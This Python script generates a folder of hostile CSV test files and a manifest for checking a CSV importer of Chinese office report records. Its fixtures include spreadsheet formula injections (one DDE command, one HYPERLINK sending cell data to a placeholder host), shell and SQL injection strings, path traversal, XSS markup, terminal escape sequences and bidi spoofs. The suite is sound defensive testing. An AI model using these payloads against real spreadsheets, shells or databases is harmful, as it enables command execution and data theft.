#!/usr/bin/env python3
"""Writes hostile CSV files into a folder, with a manifest.json that says what a sound
program does with each: make.py FOLDER. strings() gives hostile texts for fields, screens
and messages; they are written to strings.jsonl, in base64.

expect: "accept" (all rows in), "refuse" (exit 6, nothing in) or "either" (no crash, and in
whole or not at all). rows: how many come in. line: the line that the message must name.
says: words that stand in the message. args: more words for the import command."""

import base64
import json
import os
import random
import sys

UNITS = ["办公室", "组织部", "宣传部", "教育局", "卫健局", "医院", "税务局", "统战委"]
HEAD = "date,unit,title,author,length"

# What spreadsheets would run.
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "＝1+1", "＋1+1", "－1+1",
            "＠SUM(1)", " =1+1", "\u00a0=1+1", "　=1+1", "\u200b=1+1", "\ufeff=1+1",
            "=cmd|'/C calc'!A0", '=HYPERLINK("http://e.invalid/?"&A1,"x")', "-", "+", "=",
            "@", "-5", "+86 10 1234", "-、总体情况", "=【简报】", '"=1+1"', "%0A=1+1"]
# What a terminal, a shell, a database or a formatter would act on.
ATTACKS = ["%s%s%n", "%1$n", "{}{0}", "$(id)", "`id`", "; id", "'; DROP TABLE unit;--",
           "../../etc/passwd", "<script>alert(1)</script>", "\u202etxt.exe", "a\u200bb",
           "\u2066x\u2069", "\u200fx", "e" + "\u0301" * 200, "👨‍👩‍👧‍👦", "🇨🇳", "한글", "\u0085",
           "\u009b31m", "\u2028\u2029", "\ufffe", "\U000e0041", "x" * 1999, "\u00ad\u00ad-",
           "\u061c\u180e!"]


def title(i):
    return f"关于第{i}期信息报送情况的通报"


def rows(n=20, titles=None):
    for i in range(n):
        t = titles[i] if titles else title(i)
        yield [f"2026-{i % 12 + 1:02}-{i % 27 + 1:02}", UNITS[i % len(UNITS)], t,
               ["李四", "张三"][i % 2], str(i % 5 + 1)]


def cell(s):
    return '"' + s.replace('"', '""') + '"' if any(c in s for c in ',"\r\n') else s


def text(lines, end="\n", by=",", head=HEAD):
    return end.join([head.replace(",", by)] +
                    [by.join(cell(c) for c in r) for r in lines]) + end


def files():
    plain = text(rows())
    line = plain.splitlines()
    gb = plain.encode("gb18030")

    yield "plain_utf8", plain.encode(), dict(expect="accept", rows=20)
    yield "utf8_bom", plain.encode("utf-8-sig"), dict(expect="accept", rows=20)
    yield "utf8_bom_quoted_header", ('\ufeff"date"' + plain[4:]).encode(), dict(expect="accept", rows=20)
    yield "gb18030", gb, dict(expect="accept", rows=20)
    chinese = text(rows(), head="日期,单位,标题,作者,字数")
    yield "gb18030_chinese_header", chinese.encode("gb18030"), dict(expect="accept", rows=20)
    rare = text(rows(3, ["䶮", "𠮷𠀀", "通报😀"]))
    yield "gb18030_four_byte", rare.encode("gb18030"), dict(expect="accept", rows=3)
    yield "utf16le_tab", ("\ufeff" + text(rows(), "\r\n", "\t")).encode("utf-16-le"), dict(expect="accept", rows=20)
    yield "utf16be", ("\ufeff" + plain).encode("utf-16-be"), dict(expect="accept", rows=20)
    yield "utf16le_no_bom", plain.encode("utf-16-le"), dict(expect="refuse", says="UTF-16")
    yield "latin1", f"{HEAD}\n2026-01-01,office,café,José,1\n".encode("latin-1"), dict(expect="refuse", says="line 2")
    mixed = "\n".join(line[:6]).encode() + b"\n" + "\n".join(line[6:]).encode("gb18030")
    yield "mixed_encodings", mixed, dict(expect="refuse", says="line 7")
    both = f"{HEAD}\n2026-01-01,医院,师院,医师,1\n".encode("gb18030")
    yield "both_encodings", both, dict(expect="refuse", says="--encoding")
    yield "both_encodings_told", both, dict(expect="accept", rows=1, args=["--encoding", "gb18030"])

    yield "crlf", text(rows(), "\r\n").encode(), dict(expect="accept", rows=20)
    yield "cr_only", text(rows(), "\r").encode(), dict(expect="accept", rows=20)
    ends = ["\n", "\r\n", "\r"]
    yield "mixed_ends", "".join(s + ends[i % 3] for i, s in enumerate(line)).encode(), dict(expect="accept", rows=20)
    yield "no_final_newline", plain.rstrip("\n").encode(), dict(expect="accept", rows=20)
    yield "blank_lines", "".join(s + "\n" + ["\n", " \n", "　\n"][i % 3] for i, s in enumerate(line)).encode(), dict(expect="accept", rows=20)
    quoted = [["2026-01-01", "办公室", "第一行\n第二行", "李四", "1"],
              ["2026-01-02", "组织部", "a\r\nb", "张三", "2"],
              ["2026-01-40", "宣传部", "坏日期", "李四", "3"]]
    yield "quoted_newlines", text(quoted).encode(), dict(expect="refuse", line=6)
    yield "nul_in_title", f"{HEAD}\n2026-01-01,办公室,a\0b,李四,1\n".encode(), dict(expect="refuse", line=2)
    yield "nul_tail", plain.encode() + b"\0" * 4096, dict(expect="refuse", line=22)
    yield "ctrl_z", ("\n".join(line[:6] + ["\x1a"] + line[6:]) + "\n").encode(), dict(expect="refuse", line=7)
    opened = text(rows(1000)).splitlines()
    opened[3] = opened[3].replace("关于", '"关于')
    yield "open_quote", ("\n".join(opened) + "\n").encode(), dict(expect="refuse", line=4, says="line 4")
    yield "quote_in_bare_field", f'{HEAD}\n2026-01-01,办公室,关于"通报"的,张三,1\n'.encode(), dict(expect="accept", rows=1)
    yield "text_after_quote", f'{HEAD}\n2026-01-01,办公室,"通报"x,张三,1\n'.encode(), dict(expect="refuse", line=2)
    yield "backslash_quote", f'{HEAD}\n2026-01-01,办公室,"a\\",b",张三,1\n'.encode(), dict(expect="refuse", line=2)
    yield "curly_quotes", f"{HEAD}\n2026-01-01,办公室,“通报,二”,张三,1\n".encode(), dict(expect="refuse", line=2)
    yield "many_quotes", f'{HEAD}\n2026-01-01,办公室,"{chr(34) * 1000000}",张三,1\n'.encode(), dict(expect="refuse", line=2)
    short = line[:4] + ["2026-01-01,办公室"] + line[4:]
    yield "too_short", "\n".join(short).encode(), dict(expect="refuse", line=5)
    yield "too_long", "\n".join(line[:4] + ["2026-01-01,办公室,a,b,1,9,9"]).encode(), dict(expect="refuse", line=5)
    yield "trailing_commas", "".join(s + ",,,\n" for s in line).encode(), dict(expect="accept", rows=20)
    yield "columns_100k", (HEAD + "," + ",".join(f"c{i}" for i in range(100000)) + "\n").encode(), dict(expect="refuse", says="columns")
    yield "commas_4m", b"," * 4000000, dict(expect="refuse")
    yield "line_16m", HEAD.encode() + b"\n" + b"a" * 16000000, dict(expect="refuse", line=2)

    yield "empty", b"", dict(expect="refuse", says="empty")
    yield "bom_only", b"\xef\xbb\xbf", dict(expect="refuse", says="empty")
    yield "spaces", b"  \n \t\n", dict(expect="refuse", says="empty")
    yield "header_only", (HEAD + "\n").encode(), dict(expect="accept", rows=0)
    yield "no_header", "\n".join(line[1:]).encode(), dict(expect="refuse", says="2026-01-01")
    yield "double_column", plain.replace("length", "title", 1).encode(), dict(expect="refuse", says="title")
    yield "missing_column", plain.replace("unit,", "note,", 1).encode(), dict(expect="refuse", says="unit")
    yield "unknown_column", plain.replace("length", "score", 1).encode(), dict(expect="refuse", says="score")
    back = text([r[::-1] for r in rows()], head="length,author,title,unit,date")
    yield "reordered", back.encode(), dict(expect="accept", rows=20)
    yield "header_variants", ("　date,unit ,\ufefftitle, author,length\u200b" + plain[len(HEAD):]).encode(), dict(expect="accept", rows=20)
    yield "sep_line", ("sep=;\r\n" + text(rows(), "\r\n", ";")).encode(), dict(expect="accept", rows=20)
    for name, by, option in [("semicolon", ";", ";"), ("tab", "\t", "tab"), ("pipe", "|", "|"), ("fullwidth", "，", "，")]:
        yield f"delimiter_{name}", text(rows(), by=by).encode(), dict(expect="refuse", says="--delimiter")
        yield f"delimiter_{name}_told", text(rows(), by=by).encode(), dict(expect="accept", rows=20, args=["--delimiter", option])

    yield "formulas", text(rows(len(FORMULAS), FORMULAS)).encode(), dict(expect="accept", rows=len(FORMULAS), titles=FORMULAS)
    yield "attacks", text(rows(len(ATTACKS), ATTACKS)).encode(), dict(expect="either", rows=len(ATTACKS))
    good = ["2026-01-05", "2024-02-29", "2000-02-29", "2026/1/5", "2026.1.5", "2026年1月5日", "2038-01-20", "2106-02-08"]
    yield "dates_good", text([d, "办公室", title(i), "李四", ""] for i, d in enumerate(good)).encode(), dict(expect="accept", rows=len(good))
    bad = ["2023-02-29", "2100-02-29", "2026-04-31", "2026-13-01", "2026-00-10", "0000-00-00", "1969-12-31", "2200-01-01", "01/02/2026", "1/2/26",
           "46027", "2026-1", "2026", "20260105", "2026-01-05 24:00", "２０２６-０１-０５", "1月5日", "yesterday", "", "2026-01-05x", "-2026-01-05", "2262-04-12"]
    yield "dates_bad", text([d, "办公室", title(i), "李四", ""] for i, d in enumerate(bad)).encode(), dict(expect="refuse", line=2, bad=len(bad))
    yield "spaced_unit", text(["2026-01-01", u, title(i), "", ""] for i, u in enumerate(["办公室", "办公室 ", " 办公室", "　办公室"])).encode(), dict(expect="accept", rows=4)
    same = list(rows(2))
    yield "same_rows", text([same[0], same[0], same[1], same[0]]).encode(), dict(expect="accept", rows=2)
    yield "field_64k", f"{HEAD}\n2026-01-01,办公室,{'报' * 32768},张三,1\n".encode(), dict(expect="refuse", line=2)
    yield "cut_character", plain.encode()[: plain.encode().rindex("期".encode()) + 2], dict(expect="refuse", says="line 21")
    yield "bad_utf8", HEAD.encode() + b"\n" + b"".join(b"2026-01-01,\xe5\x8a\x9e\xe5\x85\xac\xe5\xae\xa4,x" + b + b"y,a,1\n" for b in [b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xff", b"\x80"]), dict(expect="refuse", says="line")
    yield "really_xlsx", b"PK\x03\x04\x14\0\x06\0" + bytes(200), dict(expect="refuse", says="xlsx")
    yield "really_html", "<html><table><tr><td>单位</td></tr></table></html>".encode(), dict(expect="refuse", says="HTML")
    yield "really_gzip", b"\x1f\x8b\x08\0" + bytes(range(100)), dict(expect="refuse", says="gzip")
    yield "really_pdf", b"%PDF-1.4\n%\xe2\xe3\n", dict(expect="refuse", says="PDF")
    yield "random_64k", random.Random(7).randbytes(65536), dict(expect="refuse")


# --- strings: (class, bytes) ---------------------------------------------------------

STRING_ENDS = [b"\x07", b"\x1b\\", b""]
OSC = [b"0;x", b"2;x", b"4;1;?", b"7;file:///x", b"8;;http://e.invalid/", b"10;?", b"11;?",
       b"50;x", b"52;c;eA==", b"104", b"133;A", b"777;notify;a;b", b"1337;File=:eA=="]
ESCAPES = [b"c", b"#8", b"%G", b"7", b"8", b"D", b"E", b"H", b"M", b"N", b"O", b"Z", b"=", b">",
           b"(0", b")0", b"*0", b"n", b"o", b"|", b"}", b"~", b" F", b"[[A", b""]
MODES = [b"?3", b"?5", b"?6", b"?25", b"?47", b"?1000", b"?1006", b"?1049", b"?2004", b"4", b"20"]
INVISIBLE = [0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180b, 0x180e, 0x200b, 0x200c, 0x200d,
             0x2028, 0x2029, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206a, 0x206b, 0x206c, 0x206d,
             0x206e, 0x206f, 0x3164, 0xfeff, 0xffa0, 0xfff9, 0xfffa, 0xfffb, 0xfffe, 0xffff, 0xe000,
             0xf8ff, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xe01ef, 0x10ffff, 0xfdd0, 0x0378]
BIDI = [0x61c, 0x200e, 0x200f, *range(0x202a, 0x202f), *range(0x2066, 0x206a)]
OVERPRINT = ["甲\b乙", "密文\b\b\b\b公开", "第一行\r第二行", "a\vb\fc", "a\tb", "a\t\tb", "\t首", "尾\t",
             "上\n下", "\n\n\n", "a\r\nb", "\r", "a\b" * 40, "   \r" * 9, "\b\b\bx", "表\t" * 20]
EMOJI = ["👨‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇨🇳", "🇨", "1️⃣", "❤️", "❤︎", "🧑🏿‍🤝‍🧑🏻", "😀" * 60, "🫠🫨🪿",
         "🏴\U000e0067\U000e0062\U000e007f", "©®™️"]
WIDTHS = ["·…—“”‘’×÷①②③℃■○★─│█░▲▼→", "ＡＢＣ１２３", "ｱｲｳｴｵ", "𠀀𪛖䶮", "가나다\u1100\u1161", "Ωλжя§°±",
          "〔２０２６〕１号", "㈠㈱㎡㏑", "‐‑–—―‖", "ก็ำ เ", "नमस्ते", "﷽﷽﷽", "𒐫𒈙꧅"]
INJECT = ["%s%s%s%n", "%1$n", "%999999999d", "%*.*f", "%n" * 99, "{0}{}", "{{}}", "${HOME}", "$(id)", "`id`",
          "; id", "| id", "&& id", "> /tmp/x", "'; DROP TABLE unit;--", '" OR ""="', "' OR 1=1--", "\\'",
          "\\", "\\n", "\\x1b[2J", "\\u202e", "%00", "%0a", "%1b[2J", "../../etc/passwd", "/dev/null",
          "-rf", "--help", "-", "--", "~", "~root", "*", "?", "[a-z]", "!!", "^[", "<U+202E>", "NULL",
          "null", "nan", "-0", "1e309", "0x10", "#", "//", "/*", "*/", "\\033[2J", "CON", "a" * 5000]
MARKUP = [f"<{t}>" for t in ("b", "script", "img src=x onerror=alert(1)", "/td", "!--", "svg/onload=alert(1)",
                             "style", "iframe", "a href=javascript:alert(1)", "table", "br/", "?xml", "![CDATA[")] + \
    ["&lt;", "&amp;", "&#27;[2J", "&#x202e;", "&nbsp;", "&", "]]>", '"', "'", "''", '""', '">x', "' x='"] + \
    ["**粗**", "_斜_", "# 题", "- 项", "1. 项", "> 引", "```", "`码`", "|列|列|", "[a](b)", "![a](b)", "---", "<!--x",
     "\\begin{a}", "$x$", "=_x=", "%d{a}", "_x0041_", "_x001B_", "@a", "~~x~~", ":smile:", "\\*x", "&&&", "<<>>",
     "{{x}}", "{%x%}", "<%x%>", "#{x}", "&copy"]
BAD_UTF8 = [b"\xc3", b"\xc3(", b"A\xc3B", b"\xe4\xb8", b"\xe4\xb8A", b"\xe4", b"\xe4A\xad", b"\xf0\x9f\x98",
            b"\xf0\x9f", b"\xf0", b"\xc0\x80", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\x80", b"\xe0\x80\xaf",
            b"\xe0\x9f\xbf", b"\xf0\x80\x80\x80", b"\xf0\x8f\xbf\xbf", b"\xed\xa0\x80", b"\xed\xbf\xbf",
            b"\xed\xa0\xbd\xed\xb8\x80", b"\xf4\x90\x80\x80", b"\xf5\x80\x80\x80", b"\xf8\x88\x80\x80\x80",
            b"\xfc\x84\x80\x80\x80\x80", b"\xfe", b"\xff", b"\xfe\xff", b"\xff\xfe", b"\x80" * 9]


def escapes():
    for final in range(0x40, 0x7f):
        yield b"\x1b[1" + bytes([final])
    for mode in MODES:
        yield from (b"\x1b[" + mode + b"h", b"\x1b[" + mode + b"l")
    for osc in OSC:
        yield from (b"\x1b]" + osc + end for end in STRING_ENDS)
    for kind in b"P_^X":
        yield from (b"\x1b" + bytes([kind]) + b"q#0" + end for end in STRING_ENDS)
    for e in ESCAPES:
        yield b"\x1b" + e
    yield from (b"\x1b[" + b"9" * 5000 + b"m", b"\x1b[" + b"1;" * 2000 + b"m", b"\x1b" * 99)


def strings():
    def around(raw):
        return "前".encode() + raw + "后".encode()

    def text(name, items):
        return ((name, t.encode("utf-8", "surrogatepass")) for t in items)

    yield from (("c0", around(bytes([c]))) for c in [*range(32), 127])
    yield from (("c1-utf8", around(chr(c).encode())) for c in range(128, 160))
    yield from (("c1-raw", around(bytes([c]))) for c in range(128, 160))
    yield from (("esc", around(e)) for e in escapes())
    for rest in (b"2J", b"31m", b"6n", b"21t", b"?25l", b"5i", b"H"):
        yield from (("csi8-utf8", around("\x9b".encode() + rest)), ("csi8-raw", around(b"\x9b" + rest)))
    yield from text("overprint", OVERPRINT)
    for cp in BIDI:
        yield "bidi", around(chr(cp).encode())
    yield from text("bidi", ["\u202etxt.exe", "עברית 12", "العربية", "a\u2067b\u2066c\u2069d"])
    yield from (("invisible", around(chr(cp).encode("utf-8", "surrogatepass"))) for cp in INVISIBLE)
    for n in (1, 2, 4, 8, 9, 20, 100, 1000):
        yield from text("combining", ["e" + "\u0301" * n, "中" + "\u0300" * n])
    yield from text("combining", ["\u0301", "\u0301x", "Z̸̢̛͎a̷l̴g̵o", "\u20dd", "a\u20e3", "\u1ab0\ufe20x"])
    yield from text("emoji", EMOJI)
    for n in range(1, 45):
        yield from text("edge", ["宽" * n, "x" + "宽" * n])
    yield from text("width", WIDTHS)
    for bad in BAD_UTF8:
        yield from (("badutf8", bad), ("badutf8", around(bad)))
    yield from (("badutf8-byte", bytes([b])) for b in range(128, 256))
    yield from text("inject", INJECT)
    yield from text("formula", FORMULAS + [f + "中" for f in FORMULAS[:16]])
    yield from text("markup", MARKUP)


def main(folder):
    os.makedirs(folder, exist_ok=True)
    manifest = []
    for name, data, what in files():
        with open(os.path.join(folder, name + ".csv"), "wb") as f:
            f.write(data)
        manifest.append(dict(name=name, **what))
    with open(os.path.join(folder, "units.csv"), "w", encoding="utf-8") as f:
        f.write("name,group\n" + "".join(f"{u},县直单位\n" for u in UNITS))
    with open(os.path.join(folder, "strings.jsonl"), "w", encoding="ascii") as f:
        for kind, raw in strings():
            f.write(json.dumps(dict(kind=kind, b64=base64.b64encode(raw).decode())) + "\n")
    with open(os.path.join(folder, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, ensure_ascii=False, indent=1)


if __name__ == "__main__":
    main(sys.argv[1])
